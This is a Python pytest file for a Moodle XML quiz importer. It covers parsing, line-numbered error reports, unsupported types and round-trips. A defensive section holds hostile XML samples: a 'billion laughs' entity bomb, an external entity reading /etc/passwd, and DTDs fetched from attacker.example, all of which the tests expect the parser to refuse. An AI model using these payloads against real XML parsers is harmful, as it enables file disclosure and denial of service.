"""Moodle XML: what Moodle exports reads into our question dicts, problems name their lines,
unsupported types are listed, unsafe XML is refused, and dump and parse agree."""
from __future__ import annotations

import time
import xml.etree.ElementTree as ElementTree

import pytest

from academy.quizzes import moodlexml

PATH = "quizzes/onboarding.xml"

# Shaped like an export from Moodle 4.x's question bank (comments, category info, hints and all).
EXPORT = """\
<?xml version="1.0" encoding="UTF-8"?>
<quiz>
<!-- question: 0  -->
  <question type="category">
    <category>
      <text>$course$/top/Onboarding/Billing</text>
    </category>
    <info format="moodle_auto_format">
      <text>Refunds, invoices, payment methods.</text>
    </info>
    <idnumber></idnumber>
  </question>

<!-- question: 101  -->
  <question type="multichoice">
    <name>
      <text>Refund window</text>
    </name>
    <questiontext format="html">
      <text><![CDATA[<p>How many days does a customer have to ask for a <b>refund</b>?</p>]]></text>
    </questiontext>
    <generalfeedback format="html">
      <text><![CDATA[<p>See the refund policy.</p>]]></text>
    </generalfeedback>
    <defaultgrade>1.0000000</defaultgrade>
    <penalty>0.3333333</penalty>
    <hidden>0</hidden>
    <idnumber>billing-refund-window</idnumber>
    <single>true</single>
    <shuffleanswers>true</shuffleanswers>
    <answernumbering>abc</answernumbering>
    <showstandardinstruction>0</showstandardinstruction>
    <correctfeedback format="html">
      <text>Your answer is correct.</text>
    </correctfeedback>
    <partiallycorrectfeedback format="html">
      <text>Your answer is partially correct.</text>
    </partiallycorrectfeedback>
    <incorrectfeedback format="html">
      <text>Your answer is incorrect.</text>
    </incorrectfeedback>
    <shownumcorrect/>
    <answer fraction="100" format="html">
      <text>30 days</text>
      <feedback format="html">
        <text>Right: 30 calendar days.</text>
      </feedback>
    </answer>
    <answer fraction="0" format="html">
      <text>14 days</text>
      <feedback format="html">
        <text>That is the withdrawal period.</text>
      </feedback>
    </answer>
    <hint format="html">
      <text>Check the policy page.</text>
    </hint>
    <tags>
      <tag><text>refunds</text>
</tag>
      <tag><text>billing</text>
</tag>
    </tags>
  </question>

<!-- question: 102  -->
  <question type="multichoice">
    <name>
      <text>Accepted payment methods</text>
    </name>
    <questiontext format="moodle_auto_format">
      <text>Which payment methods do we accept?</text>
    </questiontext>
    <generalfeedback format="moodle_auto_format">
      <text></text>
    </generalfeedback>
    <single>false</single>
    <answer fraction="50">
      <text>Card</text>
      <feedback><text></text></feedback>
    </answer>
    <answer fraction="50">
      <text>Bank transfer</text>
      <feedback><text></text></feedback>
    </answer>
    <answer fraction="-100">
      <text>Cheque</text>
      <feedback><text>We stopped taking cheques in 2021.</text></feedback>
    </answer>
  </question>

<!-- question: 103  -->
  <question type="truefalse">
    <name>
      <text>Refund in cash</text>
    </name>
    <questiontext format="plain_text">
      <text>Agents may refund in cash at the counter.</text>
    </questiontext>
    <generalfeedback format="plain_text">
      <text></text>
    </generalfeedback>
    <defaultgrade>1.0000000</defaultgrade>
    <penalty>1.0000000</penalty>
    <hidden>0</hidden>
    <idnumber></idnumber>
    <answer fraction="0" format="moodle_auto_format">
      <text>true</text>
      <feedback format="moodle_auto_format">
        <text>No: refunds go back to the original payment method.</text>
      </feedback>
    </answer>
    <answer fraction="100" format="moodle_auto_format">
      <text>false</text>
      <feedback format="moodle_auto_format">
        <text>Correct.</text>
      </feedback>
    </answer>
  </question>

<!-- question: 0  -->
  <question type="category">
    <category>
      <text>$course$/top/Onboarding/Escalation</text>
    </category>
  </question>

<!-- question: 104  -->
  <question type="shortanswer">
    <name>
      <text>Escalation queue</text>
    </name>
    <questiontext format="markdown">
      <text>Which queue takes **legal** complaints?</text>
    </questiontext>
    <generalfeedback format="markdown">
      <text></text>
    </generalfeedback>
    <usecase>1</usecase>
    <answer fraction="100" format="moodle_auto_format">
      <text>Legal</text>
      <feedback format="moodle_auto_format"><text>Yes.</text></feedback>
    </answer>
    <answer fraction="50" format="moodle_auto_format">
      <text>Supervisor</text>
      <feedback format="moodle_auto_format"><text>Only after hours.</text></feedback>
    </answer>
  </question>

<!-- question: 105  -->
  <question type="matching">
    <name>
      <text>Channels and response times</text>
    </name>
    <questiontext format="html">
      <text>Match each channel with its response target.</text>
    </questiontext>
    <generalfeedback format="html">
      <text></text>
    </generalfeedback>
    <shuffleanswers>true</shuffleanswers>
    <subquestion format="html">
      <text>Phone</text>
      <answer>
        <text>1 minute</text>
      </answer>
    </subquestion>
    <subquestion format="html">
      <text>Chat</text>
      <answer>
        <text>2 minutes</text>
      </answer>
    </subquestion>
    <subquestion format="html">
      <text></text>
      <answer>
        <text>1 week</text>
      </answer>
    </subquestion>
  </question>

<!-- question: 106  -->
  <question type="numerical">
    <name>
      <text>Goodwill limit</text>
    </name>
    <questiontext format="html">
      <text>Up to how many euros may an agent credit without approval?</text>
    </questiontext>
    <generalfeedback format="html">
      <text></text>
    </generalfeedback>
    <answer fraction="100" format="moodle_auto_format">
      <text>50</text>
      <tolerance>0</tolerance>
      <feedback format="html"><text>Yes, 50 EUR.</text></feedback>
    </answer>
    <answer fraction="50" format="moodle_auto_format">
      <text>49.99</text>
      <tolerance>0.5</tolerance>
      <feedback format="html"><text>Close.</text></feedback>
    </answer>
    <units>
      <unit>
        <multiplier>1</multiplier>
        <unit_name>EUR</unit_name>
      </unit>
    </units>
    <unitgradingtype>0</unitgradingtype>
    <unitpenalty>0.1000000</unitpenalty>
    <showunits>3</showunits>
    <unitsleft>0</unitsleft>
  </question>

<!-- question: 107  -->
  <question type="essay">
    <name>
      <text>Apology e-mail</text>
    </name>
    <questiontext format="html">
      <text>Write the apology e-mail for a double charge.</text>
    </questiontext>
    <generalfeedback format="html">
      <text>A good answer apologises, explains and says what happens next.</text>
    </generalfeedback>
    <responseformat>editor</responseformat>
    <responserequired>1</responserequired>
    <responsefieldlines>15</responsefieldlines>
    <graderinfo format="html">
      <text></text>
    </graderinfo>
  </question>

<!-- question: 108  -->
  <question type="description">
    <name>
      <text>Before you start</text>
    </name>
    <questiontext format="html">
      <text>The next questions are about escalation.</text>
    </questiontext>
    <generalfeedback format="html">
      <text></text>
    </generalfeedback>
    <defaultgrade>0.0000000</defaultgrade>
  </question>
</quiz>
"""


def parse(data, **options):
    return moodlexml.parse(data, PATH, **options)


def by_title(result) -> dict[str, dict]:
    return {question["title"]: question for question in result.questions}


def lines_and_messages(result) -> list[tuple[int, str]]:
    return [(problem.line, problem.message) for problem in result.problems]


def question_xml(qtype: str, body: str, name: str = "Refund window") -> str:
    """A one-question file: the question starts on line 3."""
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n<quiz>\n<question type="{qtype}">\n'
            f"<name><text>{name}</text></name>\n{body}\n</question>\n</quiz>\n")


# Reading what Moodle exports.

def test_a_moodle_export_reads_every_supported_type():
    result = parse(EXPORT)
    assert result.ok, result.problems
    assert [(question["type"], question["line"]) for question in result.questions] == [
        ("multichoice", 15), ("multichoice", 67), ("truefalse", 93), ("shortanswer", 129),
        ("matching", 151), ("numerical", 183), ("essay", 216), ("description", 235)]


def test_multichoice_keeps_text_format_feedback_id_and_tags():
    question = by_title(parse(EXPORT))["Refund window"]
    assert question == {
        "title": "Refund window",
        "category": "$course$/top/Onboarding/Billing",
        "type": "multichoice",
        "single": True,
        "format": "html",
        "text": "<p>How many days does a customer have to ask for a <b>refund</b>?</p>",
        "general_feedback": "<p>See the refund policy.</p>",
        "answers": [
            {"text": "30 days", "fraction": 1.0, "feedback": "Right: 30 calendar days."},
            {"text": "14 days", "fraction": 0.0, "feedback": "That is the withdrawal period."},
        ],
        "id": "billing-refund-window",
        "tags": ["refunds", "billing"],
        "line": 15,
    }


def test_several_answer_multichoice_turns_percentages_into_fractions():
    question = by_title(parse(EXPORT))["Accepted payment methods"]
    assert question["single"] is False and question["format"] == "moodle"
    assert [(answer["text"], answer["fraction"]) for answer in question["answers"]] == [
        ("Card", 0.5), ("Bank transfer", 0.5), ("Cheque", -1.0)]
    assert question["answers"][2]["feedback"] == "We stopped taking cheques in 2021."
    assert "id" not in question and "tags" not in question


def test_truefalse_knows_the_right_answer_and_which_feedback_goes_with_which_answer():
    question = by_title(parse(EXPORT))["Refund in cash"]
    assert question["correct"] is False and question["format"] == "plain"
    assert question["feedback_true"] == "No: refunds go back to the original payment method."
    assert question["feedback_false"] == "Correct."


def test_shortanswer_keeps_answers_and_fractions_and_ignores_usecase():
    question = by_title(parse(EXPORT))["Escalation queue"]
    assert question["format"] == "markdown"
    assert question["answers"] == [{"text": "Legal", "fraction": 1.0, "feedback": "Yes."},
                                   {"text": "Supervisor", "fraction": 0.5, "feedback": "Only after hours."}]
    assert "usecase" not in question


def test_matching_reads_pairs_and_keeps_an_extra_wrong_answer():
    question = by_title(parse(EXPORT))["Channels and response times"]
    assert question["pairs"] == [{"question": "Phone", "answer": "1 minute"},
                                 {"question": "Chat", "answer": "2 minutes"},
                                 {"question": "", "answer": "1 week"}]


def test_numerical_reads_every_answer_with_its_tolerance():
    question = by_title(parse(EXPORT))["Goodwill limit"]
    assert question["numerical"] == [
        {"value": 50.0, "tolerance": 0.0, "fraction": 1.0, "feedback": "Yes, 50 EUR."},
        {"value": 49.99, "tolerance": 0.5, "fraction": 0.5, "feedback": "Close."}]


def test_essay_and_description_keep_their_text():
    questions = by_title(parse(EXPORT))
    assert questions["Apology e-mail"]["general_feedback"].startswith("A good answer apologises")
    assert questions["Before you start"]["text"] == "The next questions are about escalation."
    assert questions["Before you start"]["category"] == "$course$/top/Onboarding/Escalation"


def test_a_category_question_sets_the_category_of_the_questions_after_it():
    categories = [question["category"] for question in parse(EXPORT).questions]
    assert categories == ["$course$/top/Onboarding/Billing"] * 3 + ["$course$/top/Onboarding/Escalation"] * 5


def test_questions_before_any_category_go_to_the_default_or_the_callers_category():
    text = question_xml("essay", "<questiontext><text>Describe a refund.</text></questiontext>")
    assert parse(text).questions[0]["category"] is None
    assert parse(text, category="$course$/Imported").questions[0]["category"] == "$course$/Imported"


def test_an_old_style_category_without_a_text_element_is_read():
    text = ('<quiz>\n<question type="category"><category>$course$/Legacy</category></question>\n'
            '<question type="essay"><name><text>E</text></name>'
            "<questiontext><text>Describe a refund.</text></questiontext></question>\n</quiz>")
    assert parse(text).questions[0]["category"] == "$course$/Legacy"


@pytest.mark.parametrize(("attribute", "expected"), [
    ('format="moodle_auto_format"', "moodle"),
    ('format="html"', "html"),
    ('format="markdown"', "markdown"),
    ('format="plain_text"', "plain"),
    ("", "html"),
])
def test_text_formats_map_to_ours_and_html_is_moodles_default(attribute, expected):
    text = question_xml("essay", f"<questiontext {attribute}><text>Describe a refund.</text></questiontext>")
    assert parse(text).questions[0]["format"] == expected


def test_cdata_entities_and_non_ascii_text_are_read_and_trimmed():
    body = ('<questiontext format="html"><text>\n  <![CDATA[<p>Zákazník píše „vrácení peněz“ & ěščřžýáíé</p>]]>'
            "&lt;b&gt; &amp; &quot;quoted&quot; &#8364;\n  </text></questiontext>")
    question = parse(question_xml("essay", body, name="Žádost o vrácení")).questions[0]
    assert question["title"] == "Žádost o vrácení"
    assert question["text"] == '<p>Zákazník píše „vrácení peněz“ & ěščřžýáíé</p><b> & "quoted" €'


def test_one_third_percentages_read_as_moodles_seven_decimal_fractions():
    body = ("<questiontext><text>Which are channels?</text></questiontext><single>false</single>"
            + "".join(f'<answer fraction="33.33333"><text>{name}</text></answer>' for name in ("Phone", "Chat", "Fax"))
            + '<answer fraction="-100"><text>Lunch</text></answer>')
    question = parse(question_xml("multichoice", body)).questions[0]
    assert [answer["fraction"] for answer in question["answers"]] == [0.3333333, 0.3333333, 0.3333333, -1.0]


def test_a_question_without_a_name_is_titled_from_its_text():
    text = ('<quiz><question type="essay"><questiontext>'
            "<text>Describe how you would calm an angry caller on the phone.</text></questiontext></question></quiz>")
    assert parse(text).questions[0]["title"] == "Describe how you would calm an angry…"


def test_a_blank_in_the_text_marks_a_missing_word_question():
    body = ("<questiontext><text>Refunds take _____ working days.</text></questiontext>"
            '<answer fraction="100"><text>5</text></answer>')
    assert parse(question_xml("shortanswer", body)).questions[0]["missing_word"] is True


def test_bytes_in_utf8_with_a_bom_or_in_a_declared_encoding_are_read():
    assert parse(b"\xef\xbb\xbf" + EXPORT.encode()).questions == parse(EXPORT).questions
    latin = question_xml("essay", "<questiontext><text>Übergabe an die Zentrale?</text></questiontext>")
    latin = latin.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"').encode("latin-1")
    assert parse(latin).questions[0]["text"] == "Übergabe an die Zentrale?"


# Unsupported question types.

UNSUPPORTED = ("calculated", "calculatedsimple", "calculatedmulti", "ddwtos", "ddmatch", "ddimageortext",
               "ddmarker", "gapselect", "multianswer", "cloze", "randomsamatch", "random", "ordering")


@pytest.mark.parametrize("qtype", UNSUPPORTED)
def test_an_unsupported_type_is_reported_by_name_and_position_and_never_imported(qtype):
    text = EXPORT.replace("<!-- question: 104  -->", f"""<!-- question: 104  -->
  <question type="{qtype}">
    <name><text>Fee for {qtype}</text></name>
    <questiontext format="html"><text>{{1:SHORTANSWER:=x}}</text></questiontext>
    <answer fraction="100"><text>{{a}} * 2</text><tolerance>0.01</tolerance></answer>
  </question>""")
    result = parse(text)
    assert lines_and_messages(result) == [(129, f"unsupported question type '{qtype}' (question 'Fee for {qtype}')")]
    assert result.problems[0].unsupported == qtype
    assert str(result.problems[0]) == f"{PATH}:129: unsupported question type '{qtype}' (question 'Fee for {qtype}')"
    assert len(result.questions) == 8
    assert result.blocking(skip_unsupported=True) == []
    assert result.blocking(skip_unsupported=False) == result.problems


def test_every_unsupported_question_is_listed_and_real_problems_still_block():
    text = """<quiz>
<question type="calculated"><name><text>Interest</text></name></question>
<question type="ddwtos"><questiontext><text>Drag the right word</text></questiontext></question>
<question type="shortanswer"><name><text>Queue</text></name><questiontext><text>Which queue?</text></questiontext>
  <answer fraction="abc"><text>Legal</text></answer></question>
<question type="random"><name><text>Random (Billing)</text></name></question>
</quiz>"""
    result = parse(text)
    assert lines_and_messages(result) == [
        (2, "unsupported question type 'calculated' (question 'Interest')"),
        (3, "unsupported question type 'ddwtos' (question 'Drag the right word')"),
        (5, "the fraction 'abc' is not a number (question 'Queue')"),
        (6, "unsupported question type 'random' (question 'Random (Billing)')"),
    ]
    assert [problem.unsupported for problem in result.problems] == ["calculated", "ddwtos", None, "random"]
    assert [problem.line for problem in result.blocking(skip_unsupported=True)] == [5]


# Problems, each at its line.

@pytest.mark.parametrize(("body", "line", "message"), [
    pytest.param('<questiontext format="wiki_like"><text>Why?</text></questiontext>', 5,
                 "unknown text format 'wiki_like' (use moodle_auto_format, html, markdown, plain_text)",
                 id="unknown format"),
    pytest.param('<questiontext><text>Why?</text>\n<file name="screenshot.png" path="/" encoding="base64">iVBOR</file>'
                 "</questiontext>", 6, "embedded file 'screenshot.png' is not supported", id="embedded file"),
    pytest.param("<questiontext><text>  </text></questiontext>", 3, "the question text is empty", id="empty text"),
    pytest.param('<questiontext format="html">\n<text><p>Why?</p></text></questiontext>', 6,
                 "<text> holds the element <p>: put HTML inside <![CDATA[ ... ]]> or escape it", id="unescaped html"),
])
def test_common_problems_name_their_line(body, line, message):
    result = parse(question_xml("essay", body))
    assert result.questions == []
    assert any(problem.line == line and message in problem.message for problem in result.problems), result.problems


@pytest.mark.parametrize(("qtype", "body", "line", "message"), [
    pytest.param("multichoice", '<answer fraction="100"><text>30 days</text></answer>\n'
                                '<answer fraction="lots"><text>14 days</text></answer>', 7,
                 "the fraction 'lots' is not a number", id="fraction not a number"),
    pytest.param("multichoice", '<answer fraction="150"><text>30 days</text></answer>\n'
                                '<answer fraction="0"><text>14 days</text></answer>', 3,
                 "answer 1: the weight 150% is not between -100% and 100%", id="fraction over 100"),
    pytest.param("multichoice", '<answer fraction="50"><text>30 days</text></answer>\n'
                                '<answer fraction="0"><text>14 days</text></answer>', 3,
                 "a one-answer question needs an answer worth 100%", id="no right answer"),
    pytest.param("multichoice", '<answer fraction="100"><text>30 days</text></answer>', 3,
                 "a multiple-choice question needs at least 2 answers", id="one answer"),
    pytest.param("truefalse", '<answer fraction="100"><text>wahr</text></answer>\n'
                              '<answer fraction="0"><text>false</text></answer>', 6,
                 "a true/false answer must be 'true' or 'false', not 'wahr'", id="localised true"),
    pytest.param("truefalse", '<answer fraction="100"><text>true</text></answer>', 3,
                 "needs the answers 'true' and 'false'; 'false' is missing", id="false missing"),
    pytest.param("truefalse", '<answer fraction="100"><text>true</text></answer>\n'
                              '<answer fraction="100"><text>false</text></answer>', 3,
                 "one of the answers 'true' and 'false' must be worth 100 and the other 0", id="both right"),
    pytest.param("shortanswer", "", 3, "the question has no answers", id="shortanswer without answers"),
    pytest.param("shortanswer", '<answer fraction="100"><text></text></answer>', 3, "answer 1 has no text",
                 id="empty short answer"),
    pytest.param("matching", "<subquestion><text>Phone</text><answer><text>1 minute</text></answer></subquestion>", 3,
                 "a matching question needs at least 2 pairs, it has 1", id="one pair"),
    pytest.param("numerical", '<answer fraction="100"><text>fifty</text></answer>', 6,
                 "the answer 'fifty' is not a number", id="value not a number"),
    pytest.param("numerical", '<answer fraction="100"><text>50</text>\n<tolerance>a bit</tolerance></answer>', 7,
                 "the tolerance 'a bit' is not a number", id="tolerance not a number"),
    pytest.param("numerical", '<answer fraction="100"><text>50</text></answer>\n'
                              '<answer fraction="0"><text>*</text></answer>', 7,
                 "the '*' answer (any other number) is not supported", id="catch-all answer"),
])
def test_type_problems_name_their_line(qtype, body, line, message):
    text = question_xml(qtype, "<questiontext><text>Refund window?</text></questiontext>\n" + body)
    result = parse(text)
    assert result.questions == []
    assert any(problem.line == line and message in problem.message for problem in result.problems), result.problems
    assert all(problem.message.endswith("(question 'Refund window')") for problem in result.problems)
    assert all(problem.unsupported is None for problem in result.problems)


@pytest.mark.parametrize(("text", "line", "message"), [
    pytest.param("<questions>\n</questions>", 1, "a Moodle XML file has <quiz> as its root, not <questions>",
                 id="wrong root"),
    pytest.param('<quiz>\n<question><name><text>Refund</text></name></question>\n</quiz>', 2,
                 "<question> has no type attribute (question 'Refund')", id="no type"),
    pytest.param("<quiz>\n<category>Billing</category>\n</quiz>", 2,
                 "<category> does not belong in <quiz>: only <question> elements do", id="stray element"),
])
def test_file_level_problems_name_their_line(text, line, message):
    assert lines_and_messages(parse(text)) == [(line, message)]


def test_every_problem_in_a_file_is_reported_and_good_questions_are_still_read():
    text = EXPORT.replace('<answer fraction="50">\n      <text>Card', '<answer fraction="half">\n      <text>Card') \
        .replace("<text>false</text>", "<text>falsch</text>") \
        .replace('<questiontext format="markdown">', '<questiontext format="creole">')
    result = parse(text)
    assert lines_and_messages(result) == [
        (78, "the fraction 'half' is not a number (question 'Accepted payment methods')"),
        (93, "a true/false question needs the answers 'true' and 'false'; 'false' is missing "
             "(question 'Refund in cash')"),
        (113, "a true/false answer must be 'true' or 'false', not 'falsch' (question 'Refund in cash')"),
        (133, "unknown text format 'creole' (use moodle_auto_format, html, markdown, plain_text) "
              "(question 'Escalation queue')"),
    ]
    assert [question["title"] for question in result.questions] == [
        "Refund window", "Channels and response times", "Goodwill limit", "Apology e-mail", "Before you start"]


# Broken and unsafe XML.

@pytest.mark.parametrize(("text", "line", "message"), [
    pytest.param("<quiz>\n<question type='essay'>\n<name><text>x</name>\n</question>\n</quiz>", 3,
                 "broken XML: mismatched tag (column 16)", id="mismatched tag"),
    pytest.param("<quiz>\n<question type='essay'>\n", 3, "broken XML: no element found (column 1)", id="unclosed"),
    pytest.param("<quiz>\n\n<question type=essay/>\n</quiz>", 3,
                 "broken XML: not well-formed (invalid token) (column 16)", id="unquoted attribute"),
    pytest.param("<quiz>\n<question type='essay'><text>Fish & chips</text></question>\n</quiz>", 2,
                 "broken XML: not well-formed (invalid token) (column 36)", id="bare ampersand"),
    pytest.param("<quiz>\n<text>&nbsp;</text>\n</quiz>", 2, "broken XML: undefined entity (column 7)",
                 id="html entity"),
    pytest.param("", 1, "broken XML: no element found (column 1)", id="empty file"),
])
def test_malformed_xml_is_one_problem_at_the_parsers_line(text, line, message):
    result = parse(text)
    assert lines_and_messages(result) == [(line, message)]
    assert result.questions == []


def test_a_file_that_is_not_utf8_names_the_line_of_its_first_bad_byte():
    data = EXPORT.encode().replace(b"Refund in cash", "Vr\u00e1cen\u00ed".encode("cp1250"))
    assert lines_and_messages(parse(data)) == [(95, "the file is not UTF-8 text (byte 0xe1); save it as UTF-8")]


def test_an_unknown_declared_encoding_is_reported():
    data = b'<?xml version="1.0" encoding="klingon-1"?>\n<quiz/>'
    assert lines_and_messages(parse(data)) == [
        (1, "unknown encoding 'klingon-1' in the XML declaration; save the file as UTF-8")]


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE quiz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<quiz><question type="essay"><name><text>&lol9;</text></name></question></quiz>
"""


def test_entity_declarations_are_refused_before_anything_expands():
    started = time.perf_counter()
    result = parse(BILLION_LAUGHS)
    assert time.perf_counter() - started < 1
    assert lines_and_messages(result) == [
        (3, "the file declares the XML entity 'lol'; entity declarations are refused for safety")]
    assert result.questions == []


@pytest.mark.parametrize(("doctype", "message"), [
    pytest.param('<!DOCTYPE quiz [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
                 "the file declares the XML entity 'secret'", id="external entity"),
    pytest.param('<!DOCTYPE quiz [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>',
                 "the file declares the XML entity 'remote'", id="parameter entity"),
    pytest.param('<!DOCTYPE quiz SYSTEM "http://attacker.example/quiz.dtd">',
                 "the file refers to an external DTD", id="external DTD"),
])
def test_external_entities_and_dtds_are_refused(doctype, message):
    text = f'{doctype}\n<quiz><question type="essay"><name><text>&secret;</text></name></question></quiz>'
    (problem,) = parse(text).problems
    assert problem.line == 1 and problem.message.startswith(message)


def test_absurdly_deep_nesting_is_refused_without_exhausting_the_stack():
    text = "<quiz>\n" + "<question>" * 100_000 + "</question>" * 100_000 + "\n</quiz>"
    assert lines_and_messages(parse(text)) == [
        (2, "elements are nested more than 50 deep; this is not a Moodle question file")]


def test_a_plain_doctype_without_entities_is_accepted():
    text = "<!DOCTYPE quiz>\n" + question_xml("essay", "<questiontext><text>Why?</text></questiontext>") \
        .split("\n", 1)[1]
    assert parse(text).ok


# Writing, and reading back.

def q(qtype: str, **fields) -> dict:
    """A valid question of ``qtype`` with help-desk content; ``fields`` override."""
    question = {"title": f"A {qtype} question", "category": "$course$/Onboarding/Billing", "type": qtype,
                "format": "moodle", "text": "How do we handle a double charge?", "general_feedback": "",
                "line": 1}
    question.update({
        "multichoice": {"single": True, "answers": [{"text": "Refund one", "fraction": 1.0, "feedback": "Yes."},
                                                    {"text": "Refund both", "fraction": 0.0, "feedback": "No."}]},
        "truefalse": {"correct": True, "feedback_true": "Right.", "feedback_false": "Look again."},
        "shortanswer": {"answers": [{"text": "refund", "fraction": 1.0, "feedback": ""}]},
        "matching": {"pairs": [{"question": "Phone", "answer": "1 minute"},
                               {"question": "Chat", "answer": "2 minutes"}]},
        "numerical": {"numerical": [{"value": 50.0, "tolerance": 0.0, "fraction": 1.0, "feedback": ""}]},
    }.get(qtype, {}))
    question.update(fields)
    return question


def round_trip(questions: list[dict]) -> list[dict]:
    result = parse(moodlexml.dump(questions))
    assert result.ok, result.problems
    return result.questions


def without_line(questions: list[dict]) -> list[dict]:
    return [{key: value for key, value in question.items() if key != "line"} for question in questions]


ROUND_TRIP = [
    q("multichoice"),
    q("multichoice", single=False, format="html", text="<p>Which of these <em>may</em> we accept?</p>",
      general_feedback="<p>See <a href=\"/kb/payments\">payments</a>.</p>",
      answers=[{"text": "Card", "fraction": 0.3333333, "feedback": "Yes."},
               {"text": "Transfer", "fraction": 0.3333333, "feedback": ""},
               {"text": "PayPal", "fraction": 0.3333334, "feedback": ""},
               {"text": "Cheque", "fraction": -0.5, "feedback": "Not since 2021."}],
      id="payments-1", tags=["payments", "billing"]),
    q("truefalse", correct=False, format="plain", feedback_true="No, never in cash.", feedback_false=""),
    q("shortanswer", format="markdown", text="Which queue takes **legal** complaints?",
      answers=[{"text": "Legal", "fraction": 1.0, "feedback": "Yes."},
               {"text": "Supervisor", "fraction": 0.25, "feedback": "Partly."}]),
    q("shortanswer", text="Refunds take _____ working days.", missing_word=True,
      answers=[{"text": "5", "fraction": 1.0, "feedback": ""}]),
    q("matching", pairs=[{"question": "Phone", "answer": "1 minute"}, {"question": "E-mail", "answer": "1 day"},
                         {"question": "", "answer": "1 week"}]),
    q("numerical", numerical=[{"value": 49.99, "tolerance": 0.5, "fraction": 1.0, "feedback": "Yes."},
                              {"value": -3.0, "tolerance": 0.0, "fraction": 0.5, "feedback": ""},
                              {"value": 1e-05, "tolerance": 1e-06, "fraction": 0.1, "feedback": ""}]),
    q("essay", category=None, format="html", text="<p>Write the apology e-mail.</p>",
      general_feedback="Apologise, explain, say what happens next."),
    q("description", category="$course$/Onboarding/Escalation", text="The next questions are about escalation."),
]


@pytest.mark.parametrize("question", ROUND_TRIP, ids=lambda question: question["title"] + " " + question["format"])
def test_each_type_round_trips(question):
    assert without_line(round_trip([question])) == without_line([question])


def test_a_whole_bank_round_trips_with_categories_written_only_when_they_change():
    questions = [q("multichoice"), q("truefalse"), q("essay", category="$course$/Onboarding/Escalation"),
                 q("description", category="$course$/Onboarding/Escalation"), q("shortanswer", category=None),
                 q("matching")]
    written = moodlexml.dump(questions)
    categories = [element.findtext("category/text") or ""
                  for element in ElementTree.fromstring(written).iter("question")
                  if element.get("type") == "category"]
    assert categories == ["$course$/Onboarding/Billing", "$course$/Onboarding/Escalation", "",
                          "$course$/Onboarding/Billing"]
    assert without_line(round_trip(questions)) == without_line(questions)


def test_special_characters_round_trip():
    text = ('Zákazník píše: „Chci vrácení peněz“ – ěščřžýáíé ĚŠČŘŽÝÁÍÉ ůú. <b>5 < 6 & 7 > 2</b> '
            "'single' \"double\" ]]> end of CDATA, a tab\there\nand a second line")
    question = q("multichoice", title="Vrácení „peněz“ & <poplatky>", text=text, general_feedback="]]>]]>&amp;",
                 answers=[{"text": "<Ano> & „hned“", "fraction": 1.0, "feedback": "Správně ]]>"},
                          {"text": "Ne", "fraction": 0.0, "feedback": "'Ne' & \"ne\""}],
                 tags=["vrácení & refunds"], id="cz-<1>")
    assert without_line(round_trip([question])) == without_line([question])


def test_a_carriage_return_survives_the_trip():
    question = q("essay", text="Line one\r\nline two\rline three")
    assert round_trip([question])[0]["text"] == "Line one\r\nline two\rline three"


def test_an_aiken_question_round_trips_through_moodle_xml():
    from academy.quizzes import aiken

    questions = aiken.parse("Which channel do we answer first?\nA) Phone\nB) Chat\nANSWER: A\n", "a.txt",
                            category="$course$/Imported").questions
    assert without_line(round_trip(questions)) == without_line(questions)


def test_dump_writes_what_moodle_expects():
    root = ElementTree.fromstring(moodlexml.dump([q("multichoice"), q("truefalse"), q("numerical")]))
    assert root.tag == "quiz"
    category, multichoice, truefalse, numerical = root.findall("question")
    assert category.get("type") == "category"
    assert multichoice.findtext("name/text") == "A multichoice question"
    assert multichoice.find("questiontext").get("format") == "moodle_auto_format"
    assert multichoice.findtext("single") == "true"
    assert [answer.get("fraction") for answer in multichoice.findall("answer")] == ["100", "0"]
    assert [answer.findtext("feedback/text") for answer in multichoice.findall("answer")] == ["Yes.", "No."]
    assert [(answer.findtext("text"), answer.get("fraction")) for answer in truefalse.findall("answer")] == [
        ("true", "100"), ("false", "0")]
    assert numerical.find("answer").findtext("tolerance") == "0"


def test_dump_uses_cdata_for_markup_and_plain_text_otherwise():
    written = moodlexml.dump([q("essay", format="html", text="<p>Fish & chips</p>")])
    assert "<text><![CDATA[<p>Fish & chips</p>]]></text>" in written
    assert "<text>A essay question</text>" in written


@pytest.mark.parametrize(("question", "message"), [
    pytest.param(q("calculated"), "cannot write a question of type 'calculated'", id="unknown type"),
    pytest.param(q("essay", format="rtf"), "unknown text format 'rtf'", id="unknown format"),
    pytest.param(q("essay", text="Bell\x07"), r"U\+0007 cannot be written in XML", id="control character"),
])
def test_dump_refuses_what_moodle_xml_cannot_hold(question, message):
    with pytest.raises(ValueError, match=message):
        moodlexml.dump([question])
